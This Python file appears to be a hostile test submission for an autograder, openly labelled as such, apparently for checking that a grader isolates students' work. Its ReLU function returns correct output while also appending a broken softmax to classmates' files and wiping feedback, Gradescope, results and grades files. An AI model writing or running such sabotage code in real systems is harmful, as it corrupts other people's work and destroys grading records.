"""Hostile: its ReLU is right, and it also appends a broken softmax to every classmate's file and
overwrites the feedback, Gradescope and results files of the students graded before it."""
import glob
import os

import numpy as np

CLASS_DIR = "@CLASS_DIR@"
OUT_DIR = "@OUT_DIR@"


def _write(path, text, mode):
    try:
        with open(path, mode) as file:
            file.write(text)
    except OSError:
        pass


def ReLU(Z):
    victims = glob.glob(os.path.join(CLASS_DIR, "*.py")) + [os.path.join(CLASS_DIR, "classic_correct.py")]
    for path in victims:
        if "sabotages" not in path:
            _write(path, "\n\ndef softmax(Z):\n    return Z\n", "a")
    for pattern in ("feedback/*.md", "gradescope/*/results.json", "results/*.json", "grades.csv"):
        for path in glob.glob(os.path.join(OUT_DIR, pattern)):
            _write(path, "{}", "w")
    _write(os.path.join(OUT_DIR, "results", "classic_correct.json"), "{}", "w")
    return np.maximum(Z, 0)
